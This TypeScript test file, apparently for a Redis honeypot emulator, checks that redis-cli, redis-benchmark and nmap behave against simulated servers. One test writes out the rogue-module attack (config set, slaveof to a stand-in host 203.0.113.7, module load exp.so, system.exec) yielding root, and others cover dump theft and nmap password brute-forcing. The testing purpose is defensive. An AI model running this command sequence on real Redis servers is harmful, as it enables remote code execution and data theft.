import { execFile, spawn } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { Identity } from '../../src/config/identity.ts'
import redis from '../../src/emulators/redis/index.ts'
import { createHosts } from '../../src/host/hosts.ts'
import { MemoryState, noEngine, type Playing, play } from '../harness.ts'

const run = promisify(execFile)

function serve(options: Record<string, unknown>): Promise<Playing> {
  const identity = new Identity(Buffer.alloc(32, 7))
  const state = new MemoryState()
  return play(redis, { persona: 'debian-web', identity, state, options, hosts: createHosts({ identity, engine: noEngine, state }) })
}

let open: Playing
let stock: Playing
let guarded: Playing
let folder: string
beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'redis-client-'))
  open = await serve({})
  stock = await serve({ profile: 'modern7' })
  guarded = await serve({ profile: 'auth', password: 'foobared' })
})
afterAll(async () => {
  await Promise.all([open, stock, guarded].map((playing) => playing.stop()))
  rmSync(folder, { recursive: true, force: true })
})

const cli = async (playing: Playing, ...args: string[]): Promise<string> =>
  (await run('redis-cli', ['-p', String(playing.port()), ...args], { encoding: 'latin1' })).stdout.trimEnd()

describe('redis-cli', () => {
  it('asks and prints', async () => {
    expect(await cli(stock, 'ping')).toBe('PONG')
    expect(await cli(stock, 'info', 'server')).toContain('redis_version:7.0.15')
    expect(await cli(stock, '--no-raw', 'get', 'none')).toBe('(nil)')
    expect(await cli(stock, 'nosuch', 'a', 'b')).toBe("ERR unknown command 'nosuch', with args beginning with: 'a' 'b'")
    expect(await cli(stock, '-3', '--json', 'hello')).toContain('"proto":3')
  })

  it('is refused by a stock server what an open one does', async () => {
    expect(await cli(stock, 'config', 'set', 'dir', '/tmp')).toContain("can't set protected config")
    expect(await cli(stock, 'module', 'load', './exp.so')).toContain('MODULE command not allowed')
    expect(await cli(open, 'config', 'set', 'dir', '/tmp')).toBe('OK')
  })

  it('runs a command on the simulated host through a rogue module', async () => {
    await cli(open, 'config', 'set', 'dir', '/tmp')
    await cli(open, 'config', 'set', 'dbfilename', 'exp.so')
    await cli(open, 'slaveof', '203.0.113.7', '8888')
    expect(await cli(open, 'module', 'load', './exp.so')).toBe('OK')
    expect(await cli(open, 'system.exec', 'id')).toBe('uid=0(root) gid=0(root) groups=0(root)')
    await cli(open, 'slaveof', 'no', 'one')
  })

  it('scans, measures and lists', async () => {
    expect((await cli(open, '--scan')).split('\n').length).toBeGreaterThan(10)
    expect(await cli(open, '--bigkeys')).toContain('-------- summary -------')
    expect(await cli(open, 'client', 'list')).toMatch(/^id=\d+ addr=127\.0\.0\.1:\d+ fd=/)
  })

  it('steals a dump that redis-cli takes for whole', async () => {
    const file = join(folder, 'stolen.rdb')
    await cli(open, '--rdb', file)
    expect(readFileSync(file, 'latin1')).toMatch(/^REDIS0009/)
    expect(open.data('redis.dump-theft')).toMatchObject([{ by: 'SYNC' }])
  })

  it('watches', async () => {
    const monitor = spawn('redis-cli', ['-p', String(open.port()), 'monitor'])
    const seen = new Promise<string>((resolve) => {
      monitor.stdout.on('data', (bytes: Buffer) => String(bytes).includes('"watched"') && resolve(String(bytes)))
    })
    await new Promise((resolve) => monitor.stdout.once('data', resolve))
    await cli(open, 'get', 'watched')
    expect(await seen).toMatch(/\[0 127\.0\.0\.1:\d+\] "get" "watched"/)
    monitor.kill()
  })

  it('logs in with the planted password only', async () => {
    expect(await cli(guarded, 'dbsize')).toBe('NOAUTH Authentication required.')
    expect(await cli(guarded, '--no-auth-warning', '-a', 'foobared', 'ping')).toBe('PONG')
  })
})

describe('redis-benchmark', () => {
  it('finishes without an error', async () => {
    const { stdout } = await run('redis-benchmark', ['-p', String(open.port()), '-n', '20000', '-q', '-t', 'ping,set,get', '-P', '16'])
    expect(stdout.match(/requests per second/g)).toHaveLength(4)
  })
})

describe('nmap', () => {
  it('-sV names the service', async () => {
    const { stdout } = await run('nmap', ['-Pn', '-sV', '--version-all', '-p', String(stock.port()), '127.0.0.1'])
    expect(stdout).toMatch(/open\s+redis\s+Redis key-value store/)
  })

  it('redis-info reads it out', async () => {
    const { stdout } = await run('nmap', ['-Pn', '--script', '+redis-info', '-p', String(stock.port()), '127.0.0.1'])
    for (const line of [
      'Version: 7.0.15',
      'Operating System: Linux',
      'Architecture: 64 bits',
      'Process ID:',
      'Role: master',
      'Client connections:',
    ]) {
      expect(stdout).toContain(line)
    }
  })

  it('redis-brute finds the planted password, and each try is a login', async () => {
    const { stdout } = await run('nmap', ['-Pn', '--script', '+redis-brute', '-p', String(guarded.port()), '127.0.0.1'])
    expect(stdout).toMatch(/redis-brute:/)
    expect(guarded.data('login').length).toBeGreaterThan(2)
  })
})
